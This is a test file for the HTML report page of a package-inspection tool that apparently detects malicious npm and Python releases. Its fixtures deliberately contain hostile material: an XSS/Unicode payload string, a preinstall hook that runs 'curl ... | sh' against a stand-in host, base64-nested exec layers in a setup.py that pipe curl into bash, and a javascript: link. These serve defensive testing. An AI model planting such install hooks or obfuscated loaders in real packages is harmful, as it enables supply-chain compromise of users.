import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { SaxesParser } from "saxes";
import { npmTarball, sdist } from "../../test/support/archives.ts";
import { accountOf } from "../inspection/account.ts";
import { inspect } from "../inspection/inspect.ts";
import type { ReleaseReport } from "./model.ts";
import { page } from "./page.ts";
import { releaseArticle } from "./release.ts";
import { visible } from "./visible.ts";

const HOSTILE = "</style></title><script>alert(1)</script><img src=x onerror=alert(1)>\"'`&{{x}}\u202e\u0000\u200b";

function reportOf(bytes: Buffer, path = "a.tgz"): ReleaseReport {
  const { sha256, verdict, findings, review, engine, ms } = inspect({ bytes, filename: path, review: {} });
  const account = accountOf(verdict, findings);
  const { word, score, because } = verdict;
  const about = { path, sha256, verdict: word, score, findings, engine, ms };
  return { ...about, ...(because && { because }), ...(account && { account }), ...(review && { review }) };
}

function pageOf(report: ReleaseReport): string {
  return page(report.path, releaseArticle(report, "r1")).text;
}

/** Element names and attributes, with every `#` link and every id. */
function elementsOf(text: string) {
  const names = new Set<string>();
  const attributes = new Set<string>();
  const links: string[] = [];
  const ids: string[] = [];
  const parser = new SaxesParser({ fragment: true });
  parser.on("opentag", (tag) => {
    names.add(tag.name);
    for (const [name, value] of Object.entries(tag.attributes as Record<string, string>)) {
      attributes.add(name);
      if (name === "href") links.push(value);
      if (name === "id") ids.push(value);
    }
  });
  parser.on("error", (error) => assert.fail(error.message));
  // The page is HTML, where void elements have no end and `open` no value.
  parser.write(
    text
      .replace(/^<!doctype html>\n/, "")
      .replace(/(<meta [^>]*)>/g, "$1/>")
      .replaceAll("<br>", "<br/>")
      .replaceAll("<details open>", '<details open="">'),
  );
  parser.close();
  return { names, attributes, links, ids };
}

describe("a page about a release", () => {
  const hostileFiles = {
    [`lib/${HOSTILE.replaceAll("\u0000", "").replaceAll("/", "_")}.js`]: "x = 1;\n",
    "setup.js": `require("child_process").execSync("curl -s https://example.invalid/x.sh | sh"); // ${HOSTILE}\n`,
  };
  const manifest = {
    description: HOSTILE,
    homepage: "javascript:alert(1)",
    scripts: { [HOSTILE]: HOSTILE, preinstall: "node setup.js" },
  };
  const hostile = reportOf(npmTarball({ name: HOSTILE, version: HOSTILE, manifest, files: hostileFiles }), HOSTILE);

  test("holds nothing that could run, load or lead elsewhere, whatever the package says", () => {
    const text = pageOf(hostile);
    const { names, attributes, links, ids } = elementsOf(text);
    for (const name of ["script", "img", "iframe", "form", "link", "object", "svg"]) assert.ok(!names.has(name), name);
    for (const name of attributes) assert.doesNotMatch(name, /^on|^style$|^src$/);
    for (const link of links) assert.ok(link.startsWith("#") && ids.includes(link.slice(1)), link);
    assert.equal(new Set(ids).size, ids.length);
    assert.match(
      text.replaceAll("&#39;", "'"),
      /content="default-src 'none'; style-src 'sha256-[\w+/=]{44}'; base-uri 'none'; form-action 'none'"/,
    );
  });

  test("spells out what cannot be seen, and nowhere contains it", () => {
    const text = pageOf(hostile);
    assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069\u200b\u0000]/);
    assert.match(text, /<i class="unseen">\\u\{202e\}<\/i>/);
    assert.equal(visible("e\u0301\u3164<").text, 'e<i class="unseen">\\u{301}</i><i class="unseen">\\u{3164}</i>&#60;');
  });

  test("has the account, the findings on their lines, the files, and what installing runs", () => {
    const text = pageOf(hostile);
    assert.match(text, /a probability of \d\.\d+: <span class="word malicious">malicious/);
    assert.match(text, /<div class="l hit"><span>1<\/span><code>require\(&#34;child_process&#34;\)/);
    assert.match(text, /<code>preinstall<\/code> <span class="soft">node setup\.js<\/span>/);
    assert.match(text, /<a href="#r1-file-\d+" class="small">\d+ findings?<\/a>/);
  });

  test("shows decoded layers below the line they come from, inside each other", () => {
    const inner = Buffer.from("import os\nos.system('curl -s http://example.invalid/x | bash')\n").toString("base64");
    const middle = Buffer.from(`import base64\nexec(base64.b64decode('${inner}'))\n`).toString("base64");
    const setup = `import base64\nexec(base64.b64decode('${middle}'))\n`;
    const text = pageOf(reportOf(sdist({ name: "demo", version: "1.0", files: { "setup.py": setup } })));
    elementsOf(text);
    assert.match(
      text,
      /class="l hit"><span>2<\/span>[\s\S]*Decoded layer 1[\s\S]*Decoded layer 2[\s\S]*class="l hit"><span>2<\/span><code>os\.system/,
    );
  });

  test("shows what changed against the release before", () => {
    const files = { "index.js": "a();\nb();\nc();\n", "gone.js": "x;\n", "same.js": "y;\n" };
    const then = reportOf(npmTarball({ name: "a", version: "1.0.0", files }));
    const after = npmTarball({
      name: "a",
      version: "1.0.1",
      files: { "index.js": "a();\nB();\nc();\n", "same.js": "y;\n", "new.js": "z;\n" },
    });
    const now = reportOf(after);
    const texts = {
      oldTexts: { "index.js": files["index.js"] },
      newTexts: { "index.js": "a();\nB();\nc();\n", "new.js": "z;\n" },
    };
    const before = {
      path: "old.tgz",
      verdict: "clean" as const,
      ...(then.review && { review: then.review }),
      ...texts,
    };
    const text = pageOf({ ...now, before });
    elementsOf(text);
    assert.match(text, /1 new file, 1 file gone/);
    assert.match(text, /class="l removed"><span>− 2<\/span><code>b\(\);/);
    assert.match(text, /class="l added"><span>\+ 2<\/span><code>B\(\);/);
    assert.match(text, /new\.js<\/code> <span class="soft small">new/);
  });

  test("says why something could not be inspected", () => {
    assert.match(pageOf(reportOf(Buffer.from("no archive"))), /Could not be inspected: the archive is refused/);
  });

  test("stays of a bounded size", () => {
    const files = Object.fromEntries(
      Array.from({ length: 7_000 }, (_, at) => [
        `${"deep/".repeat(60)}${at}.js`,
        at < 600
          ? `require('child_process').exec('curl http://example.invalid/${at}|sh'); // ${HOSTILE.repeat(500)}\n`
          : "",
      ]),
    );
    const text = pageOf(reportOf(npmTarball({ name: "a", version: "1.0.0", files })));
    assert.ok(text.length < 8_000_000, `${text.length}`);
  });
});
